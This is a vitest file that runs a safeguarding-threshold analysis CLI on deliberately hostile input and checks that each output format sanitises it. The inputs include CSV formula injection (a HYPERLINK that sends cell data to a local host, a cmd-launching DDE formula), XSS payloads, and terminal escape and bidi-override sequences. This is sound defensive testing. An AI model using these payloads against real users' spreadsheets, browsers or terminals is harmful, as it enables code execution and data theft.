import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { DomUtils, parseDocument } from 'htmlparser2';
import MarkdownIt from 'markdown-it';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validateXML } from 'xmllint-wasm';
import { run } from '../../src/cli/run.js';
import { markdownText } from '../../src/report/markdown-text.js';
import { plainLine } from '../../src/report/plain-line.js';
import { shorten } from '../../src/report/wording.js';
import { NASTY_TEXTS } from '../report/check/sample-check.js';

/** Whole commands on a draft whose name, title, headings, levels, indicators and entry in the corpus table are all made to break something. */

const folder = mkdtempSync(join(tmpdir(), 'thresholds-nasty-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const NASTY = [
  ...NASTY_TEXTS.map((text) => text.replaceAll('\u0000', '').replaceAll('\ud800', '')),
  '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '<nasty-element onmouseover="alert(2)"><img src=x onerror=alert(3)></nasty-element></td></table>',
  '</script><script>alert(4)</script><!--',
  '\u001b[35mmagenta\u001b[8m hidden \u009b31m',
  '[home](javascript:alert(5)) ![x](http://127.0.0.1:9/x.png) <http://127.0.0.1:9>',
];
/** A name that a disk of Linux takes. */
const NAME =
  'nasty \u001b[35m\u001b]0;title\u0007\u202e\nerror: fake\r::error::fake <script>alert(6)</script>'.replaceAll(
    '/',
    '\u2215',
  );
const levels = [
  [
    'Level 1: Universal',
    'All children receive universal services. Their needs are met by school, health visitor and GP.',
  ],
  [
    'Level 2: Early help',
    'A single agency leads. An early help assessment is completed by a universal worker.',
  ],
  [
    'Level 3: Child in need',
    'The child may be a child in need under section 17 of the Children Act 1989. Refer to children’s social care for an assessment.',
  ],
  [
    'Level 4: Child protection',
    'The child is suffering or likely to suffer significant harm. Section 47 enquiries are made at once.',
  ],
] as const;
const DRAFT = [
  `# Threshold document of ${markdownText(NASTY[0] ?? '')}`,
  ...levels.map(([name, sentence], i) =>
    [
      `## ${name} ${markdownText(NASTY[i + 8] ?? '')}`,
      sentence,
      `### Housing ${markdownText(NASTY[i + 3] ?? '')}`,
      NASTY.map((text) => `- ${markdownText(`${text} homeless family, self-harm`)}`).join('\n'),
    ].join('\n\n'),
  ),
].join('\n\n');

async function command(color: boolean, ...argv: string[]) {
  const said = { stdout: '', stderr: '' };
  const sink = (name: 'stdout' | 'stderr') => ({
    write: (text: string) => (said[name] += text),
    isTTY: color,
    columns: 100,
  });
  const env = { TERM: 'xterm' };
  const code = await run(argv, { stdout: sink('stdout'), stderr: sink('stderr'), cwd: folder, env });
  return { code, ...said };
}

const DRAFT_FILE = `drafts/${NAME}.md`;
const written = (path: string): string => readFileSync(join(folder, path), 'utf8');
const below = (path: string, ending: string): readonly string[] =>
  readdirSync(join(folder, path), { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith(ending))
    .map((name) => `${path}/${name}`);

beforeAll(async () => {
  mkdirSync(join(folder, 'drafts'));
  writeFileSync(join(folder, DRAFT_FILE), DRAFT);
  writeFileSync(join(folder, `drafts/broken${NAME}.pdf`), '');
  const row = {
    file: DRAFT_FILE,
    authority: NASTY[8] ?? '',
    year: '2016',
    region: NASTY[12] ?? '',
    [NASTY[9] ?? '']: NASTY[14] ?? '',
  };
  writeFileSync(join(folder, 'corpus.csv'), Papa.unparse([row]));
  const { code } = await command(
    false,
    'analyse',
    'drafts',
    '--corpus',
    'corpus.csv',
    '--out',
    'out',
    '--title',
    NASTY[10] ?? '',
  );
  expect(code).toBe(0);
  const formats = ['json', 'html', 'markdown', 'sarif', 'junit', 'gitlab', 'github'];
  await command(
    false,
    'check',
    'drafts',
    ...formats.flatMap((format) => ['--format', `${format}=check/check.${format}`]),
  );
}, 60_000);

const COMMANDS: readonly (readonly string[])[] = [
  ['analyse', 'drafts', '--corpus', 'corpus.csv'],
  ['analyse', 'drafts', '--quiet'],
  ['analyse', 'drafts', '--corpus', DRAFT_FILE],
  ['analyse', `nowhere${NAME}`],
  ['report', 'out', '--out', `out${NAME}`],
  ['report', 'out', '--out', DRAFT_FILE],
  ['explain', DRAFT_FILE, '--corpus', 'corpus.csv'],
  ['explain', `drafts/broken${NAME}.pdf`],
  ['explain', DRAFT_FILE, '--issue', NAME],
  ['check', 'drafts', '--show', 'note'],
  ...['json', 'html', 'markdown', 'sarif', 'junit', 'gitlab', 'github'].map((name) => [
    'check',
    'drafts',
    '--format',
    name,
  ]),
  ['check', DRAFT_FILE, '--config', NAME],
  ['check', DRAFT_FILE, '--previous', DRAFT_FILE, '--format', `json=${NAME}/x.json`],
  ['compare', DRAFT_FILE, DRAFT_FILE],
  ['table', 'list', 'out'],
  ['table', NAME, 'out'],
  ...['table', 'csv', 'md', 'json'].flatMap((format) =>
    ['sources', 'documents', 'references', 'levels', 'situations'].map((name) => [
      'table',
      name,
      'out',
      '--format',
      format,
    ]),
  ),
  ['guide', 'show', '--guide', NAME],
  ['guide', 'check', NAME],
  [NAME],
  ['analyse', `--${NAME}`],
];

/** What a test is called is printed too. */
const NAMED = COMMANDS.map((argv) => [shorten(plainLine(argv.join(' ')), 60), argv] as const);

/** Bold, dim, italic, red, green, yellow, blue, and their ends; nothing is hidden, and nothing magenta. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the colour codes of a terminal begin with ESC
const OWN_COLOURS = /\u001b\[(1|2|3|22|23|31|32|33|34|39)m/g;
const COMMAND_SIGNS = /(?!\n)[\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069]/u;

describe('what a terminal is told of nasty drafts', () => {
  it.each(NAMED)('is text alone, and colours where there are colours: %s', async (_, argv) => {
    const plain = await command(false, ...argv);
    const said = plain.stdout + plain.stderr;
    expect(said.length).toBeGreaterThan(0);
    // CSV ends its lines by CR LF, as its standard says.
    expect(said.replaceAll('\r\n', '\n')).not.toMatch(COMMAND_SIGNS);
    // A table for programs keeps line breaks of a name in quotation marks, and what was typed is said as it was typed.
    if (!argv.includes('csv') && !argv.some((word) => word === NAME || word === `--${NAME}`))
      expect(said).not.toMatch(/^(error: fake|::error::fake)/m);
    const coloured = await command(true, ...argv);
    const bare = (coloured.stdout + coloured.stderr)
      .replaceAll('\r\n', '\n')
      .replaceAll('\r\u001b[K', '')
      .replaceAll(OWN_COLOURS, '');
    expect(bare).not.toMatch(COMMAND_SIGNS);
  });
});

/** The elements of a page that no page of ours has, and attributes that run or load something. */
function foreignIn(html: string, xmlMode = false): readonly string[] {
  const elements = DomUtils.getElementsByTagName('*', parseDocument(html, { xmlMode }));
  return elements.flatMap(({ name, attribs }) => {
    const bad = Object.entries(attribs).filter(
      ([key, value]) =>
        /^on/i.test(key) || (/^(src|href|xlink:href|action)$/i.test(key) && !/^(#|data:image\/)/.test(value)),
    );
    const isForeign =
      ['nasty-element', 'img', 'iframe', 'object', 'b:'].includes(name) &&
      !attribs.src?.startsWith('data:image/');
    return [...(isForeign ? [name] : []), ...bad.map(([key, value]) => `${name} ${key}=${value}`)];
  });
}

/** Every XML document that is well formed keeps to this schema (RELAX NG). */
const ANY_XML = `<grammar xmlns="http://relaxng.org/ns/structure/1.0"><start><ref name="any"/></start>
  <define name="any"><element><anyName/><zeroOrMore><choice>
    <attribute><anyName/></attribute><text/><ref name="any"/>
  </choice></zeroOrMore></element></define></grammar>`;

describe('what is written of nasty drafts', () => {
  it('lies inside the folder of the results', () => {
    expect(readdirSync(folder).filter((name) => name.startsWith('out')).length).toBeGreaterThan(0);
    const ids: readonly { readonly id: string }[] = JSON.parse(written('out/results.json')).documents;
    expect(ids).toHaveLength(1);
    for (const { id } of ids) {
      expect(id).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
      expect(JSON.parse(written(`out/documents/${id}.json`)).id).toBe(id);
    }
    expect(JSON.parse(written('out/results.json')).references.length).toBeGreaterThan(40);
  });

  it('is HTML without an element or a script that is not ours', () => {
    for (const path of ['out/report.html', 'check/check.html']) {
      const html = written(path);
      expect(foreignIn(html), path).toEqual([]);
      expect(html).not.toMatch(/(?!\n)[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
      const page = parseDocument(html);
      const policy = DomUtils.getElementsByTagName('meta', page)
        .map(({ attribs }) => attribs.content ?? '')
        .join(' ');
      const scripts = DomUtils.getElementsByTagName('script', page);
      for (const script of scripts) {
        const text = DomUtils.textContent(script);
        if (script.attribs.type === 'application/json') expect(() => JSON.parse(text)).not.toThrow();
        else expect(policy).toContain(createHash('sha256').update(text).digest('base64'));
      }
      expect(scripts.length).toBe(path.startsWith('out') ? 2 : 0);
      expect(DomUtils.getElementsByTagName('body', page)).toHaveLength(1);
    }
  });

  it('is Markdown in which no text of a draft is markup', () => {
    const markdown = new MarkdownIt({ html: true, linkify: true });
    for (const path of ['out/report.md', 'check/check.markdown']) {
      const elements = DomUtils.getElementsByTagName('*', parseDocument(markdown.render(written(path))));
      const names = new Set(elements.map(({ name }) => name));
      const ours = [
        'h1',
        'h2',
        'h3',
        'p',
        'ul',
        'li',
        'table',
        'thead',
        'tbody',
        'tr',
        'th',
        'td',
        'br',
        'strong',
      ];
      expect(
        [...names].filter((name) => !ours.includes(name)),
        path,
      ).toEqual([]);
      const bold = elements
        .filter(({ name }) => name === 'strong')
        .map((element) => DomUtils.textContent(element));
      expect(bold.filter((text) => /nasty|bold/i.test(text))).toEqual([]);
    }
  });

  it('is XML that parses, without an element of a draft', async () => {
    const svgs = below('out', '.svg');
    expect(svgs.length).toBeGreaterThan(0);
    const word = unzipSync(new Uint8Array(readFileSync(join(folder, 'out/report.docx'))));
    const excel = unzipSync(new Uint8Array(readFileSync(join(folder, 'out/report.xlsx'))));
    const parts = Object.entries({ ...word, ...excel })
      .filter(([name]) => /\.(xml|rels)$/.test(name))
      .map(([name, bytes]) => [name, strFromU8(bytes)] as const);
    expect(parts.length).toBeGreaterThan(20);
    const texts = [...svgs, 'check/check.junit'].map((path) => [path, written(path)] as const);
    const all = [...texts, ...parts];
    const { valid, rawOutput } = await validateXML({
      xml: all.map(([, contents], i) => ({ fileName: `part-${i}.xml`, contents })),
      schema: [ANY_XML],
      extension: 'relaxng',
    });
    expect(valid, rawOutput.slice(0, 500)).toBe(true);
    for (const [name, contents] of all) {
      const names = DomUtils.getElementsByTagName('*', parseDocument(contents, { xmlMode: true })).map(
        (element) => element.name,
      );
      expect(
        names.filter((one) => /script|nasty|^img$/i.test(one)),
        name,
      ).toEqual([]);
      if (name.endsWith('.svg')) expect(foreignIn(contents, true)).toEqual([]);
      // A formula of Excel, and a field of Word that is not ours.
      expect(
        names.filter((one) => one === 'f'),
        name,
      ).toEqual([]);
    }
  });

  it('has no cell that a spreadsheet runs', () => {
    const files = below('out', '.csv');
    expect(files.length).toBeGreaterThan(5);
    let defused = 0;
    for (const path of files) {
      const cells = Papa.parse<string[]>(written(path).replace(/^\ufeff/, '')).data.flat();
      const isRun = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
      expect(cells.filter(isRun), path).toEqual([]);
      defused += cells.filter((cell) => /^'[=+\-@]/.test(cell)).length;
    }
    expect(defused).toBeGreaterThan(10);
  });

  it('is JSON that holds what the draft says, and nothing that a terminal runs', () => {
    const files = [...below('out', '.json'), 'check/check.json', 'check/check.sarif', 'check/check.gitlab'];
    for (const path of files) {
      expect(() => JSON.parse(written(path)), path).not.toThrow();
      expect(written(path), path).not.toMatch(/(?!\n)[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
    }
    const { documents } = JSON.parse(written('out/results.json'));
    expect(documents[0].file).toBe(DRAFT_FILE);
    expect(documents[0].authority).toBe(NASTY[8]);
  });
});
